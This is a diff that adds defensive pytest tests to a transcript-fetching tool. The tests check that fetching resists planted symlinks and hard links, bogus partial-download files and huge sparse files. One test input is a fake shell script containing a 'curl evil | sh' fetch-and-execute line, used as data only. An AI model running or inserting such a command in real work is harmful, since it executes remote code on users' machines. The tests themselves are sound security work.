@@ -7,6 +7,7 @@ import json
 import os
 import sys
 from pathlib import Path
+from typing import Any
 
 import pytest
 
@@ -161,3 +162,56 @@ def test_a_servers_bytes_stay_in_the_folder(
     run("run", feed)
     run("fetch", feed, "-o", "transcripts")
     assert contents(home) == before
+
+
+@pytest.mark.parametrize(
+    "name", ["ep.part", ".turnscript/index.json", ".turnscript/index.changes", ".turnscript/index.lock"]
+)
+@pytest.mark.parametrize("link", [os.symlink, os.link])
+@pytest.mark.parametrize("target", ["precious", "../transcripts/draft.md"])
+def test_a_fetch_writes_through_no_name_that_came_with_the_folder(
+    target: str, link: Any, name: str, home: Path, tmp_path: Path, run: Run, server: HostileServer
+) -> None:
+    """Also not into another file of the folder, such as an edited draft, and not into one with a second name."""
+    folder = tmp_path / "transcripts"
+    (folder / ".turnscript").mkdir(parents=True)
+    (folder / "draft.md").write_text("an edited draft\n")
+    audio = server.put("/ep.mp3", Resource(AUDIO))
+    entry = {"title": "Ep", "url": audio, "validator": '"one"'}
+    stored = {"schema": 2, "episodes": {"ep": entry}}
+    (folder / ".turnscript" / "index.json").write_text(json.dumps(stored))
+    victim = folder / "draft.md" if "draft" in target else home / "precious"
+    (folder / name).unlink(missing_ok=True)
+    link(victim, folder / name)
+    before = contents(home)
+    run("fetch", audio, "-o", "transcripts")
+    assert contents(home) == before
+    assert (folder / "draft.md").read_text() == "an edited draft\n"
+
+
+@pytest.mark.parametrize("planted", [b"#!/bin/sh\ncurl evil | sh\n" * 99, b"<html><body>Log in</body></html>"])
+def test_a_part_that_is_no_audio_is_not_resumed(
+    planted: bytes, tmp_path: Path, run: Run, server: HostileServer
+) -> None:
+    folder = tmp_path / "transcripts"
+    (folder / ".turnscript").mkdir(parents=True)
+    audio = server.put("/ep.mp3", Resource(AUDIO))
+    entry = {"title": "Ep", "url": audio, "validator": '"one"'}
+    (folder / ".turnscript" / "index.json").write_text(json.dumps({"schema": 2, "episodes": {"ep": entry}}))
+    (folder / "ep.part").write_bytes(planted)
+    code, out, _ = run("fetch", audio, "-o", "transcripts")
+    assert (code, (tmp_path / out.strip()).read_bytes()) == (0, AUDIO)
+    assert not [request for request in server.requests if "range" in request.headers]
+
+
+def test_a_part_larger_than_a_recording_may_be_is_not_read(tmp_path: Path, run: Run, server: HostileServer) -> None:
+    """A sparse file of terabytes takes no room in an archive."""
+    folder = tmp_path / "transcripts"
+    (folder / ".turnscript").mkdir(parents=True)
+    audio = server.put("/ep.mp3", Resource(AUDIO))
+    entry = {"title": "Ep", "url": audio, "validator": '"one"'}
+    (folder / ".turnscript" / "index.json").write_text(json.dumps({"schema": 2, "episodes": {"ep": entry}}))
+    with (folder / "ep.part").open("wb") as file:
+        file.truncate(1 << 40)
+    assert run("fetch", audio, "-o", "transcripts")[0] == 0
+    assert (folder / "ep.mp3").read_bytes() == AUDIO
